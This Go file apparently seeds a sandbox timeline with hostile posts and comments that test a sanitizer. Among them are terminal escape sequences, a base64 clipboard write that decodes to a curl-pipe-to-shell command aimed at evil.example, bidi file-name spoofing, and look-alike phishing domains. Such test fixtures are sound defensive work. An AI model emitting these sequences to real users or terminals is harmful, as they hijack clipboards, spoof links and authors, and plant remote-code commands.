package sandbox

import (
	"strings"
	"time"
)

// hostilePost is a seeded post carrying a hostile string from security.md
// §8.1; ago places it on the timeline relative to the world's creation.
type hostilePost struct {
	author  string
	ago     time.Duration
	content string
}

// hostilePosts are the sanitizer fixtures of the seeded timeline. Two are
// recent enough to appear on the first page of the demo feed.
func hostilePosts() []hostilePost {
	return []hostilePost{
		// H01: OSC 52 clipboard write between harmless words.
		{"clipboard_cat", 50 * time.Minute, "Totally normal post \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 nothing to see here #Security"},
		// H11: carriage return spoofing another author.
		{"mirror_bot", 3 * time.Hour, "alice: hello\rbob:  "},
		// H17: bidi override turning an .exe into a .jpg.
		{"mirror_bot", 26 * time.Hour, "Please review invoice\u202egpj.exe before Friday #Finance"},
		// H18: zero-width characters inside a look-alike domain.
		{"paypa1_support", 3 * 24 * time.Hour, "Your account is locked. Log in at pay\u200bpal.com to claim your reward \ufeff"},
		// H19 + H21: tag characters hiding text, alone and dressed as a flag.
		{"hidden_ink", 5 * 24 * time.Hour, "hello\U000E0049\U000E0047\U000E004E\U000E004F\U000E0052\U000E0045 world 🏴\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E0020\U000E0061\U000E007F #Unicode"},
		// H22: zalgo (300 combining marks stay under the 500-rune limit).
		{"glitch_oracle", 8 * 24 * time.Hour, "Z" + strings.Repeat("\u0301", 300) + "algo says hi #GlitchArt"},
		// H04 + H05: deceptive OSC 8 hyperlink and a window-title change.
		{"paypa1_support", 11 * 24 * time.Hour, "\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07 verify your account\x1b]0;SENTINEL-TITLE\x07"},
		// H09 + H10: screen clear, cursor home and a terminal reset.
		{"glitch_oracle", 14 * 24 * time.Hour, "line\x1b[2J\x1b[Hover x\x1bcy \x1b[?1049h #GlitchArt"},
		// H14 + H28: C1 controls as Unicode code points and a line separator.
		{"hidden_ink", 19 * 24 * time.Hour, "a\u009b2Jb \u009d0;SENTINEL\u009cz x\u2028y"},
	}
}

// hostileComments are comment fixtures attached to recent posts.
func hostileComments() []string {
	return []string{
		"nice post \x1b]52;c;U0VOVElORUwtT1NDNTI=\x07 👍",
		"alice: agreed\rbob: ",
		"see admin\u202e\u2066nimda\u2069 for details",
	}
}
